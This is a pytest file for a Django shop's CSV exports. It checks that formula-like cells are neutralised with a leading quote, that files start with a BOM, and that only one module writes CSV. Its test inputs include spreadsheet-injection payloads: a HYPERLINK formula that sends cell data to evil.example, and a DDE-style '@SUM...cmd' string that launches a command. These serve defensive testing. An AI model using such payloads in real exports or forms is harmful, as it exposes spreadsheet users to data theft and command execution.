"""Issue 15: every CSV the site writes keeps typed text as text in a spreadsheet, and starts with a BOM."""

import csv
import io

import pytest

from core.csv import BOM, csv_line, csv_safe
from shop.fulfilment.services import line_fulfil
from tests.factories.fulfilment import make_paid_order

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_become_text(value):
    assert csv_safe(value) == "'" + value
    assert next(csv.reader(io.StringIO(csv_line([value]))))[0].startswith("'")


def test_plain_values_and_numbers_are_untouched():
    assert csv_safe("Ada Lovelace") == "Ada Lovelace"
    assert csv_safe(-3) == -3
    assert csv_line(["a", 1, "2026-01-01"]) == "a,1,2026-01-01\r\n"


@pytest.mark.django_db
def test_public_history_csv_neutralises_names_and_reasons(client, fulfilment_offer):
    order = make_paid_order(
        product=fulfilment_offer,
        quantity=1,
        certificate_name='=HYPERLINK("https://evil.example","Ada")',
        reason_text="@SUM(1+1)*cmd|' /C calc'!A0",
        show_beneficiary_publicly=True,
    )
    line_fulfil(line_id=order.lines.get().pk)

    body = b"".join(client.get("/en/cancellations/csv/").streaming_content).decode("utf-8")

    assert body.startswith(BOM)
    header, row = csv.reader(io.StringIO(body.removeprefix(BOM)))
    assert header[0] == "Date of cancellation"
    assert row[6] == '\'=HYPERLINK("https://evil.example","Ada")'
    assert row[7] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_no_csv_is_written_outside_the_one_writer():
    """csv.writer appears only in core/csv.py: a new export cannot forget the formula guard or the BOM."""
    from pathlib import Path

    from django.conf import settings

    offenders = []
    for package in ("api", "cms_pages", "shop", "registry", "config"):
        for path in (Path(settings.BASE_DIR) / package).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                offenders.append(str(path))
    assert offenders == []
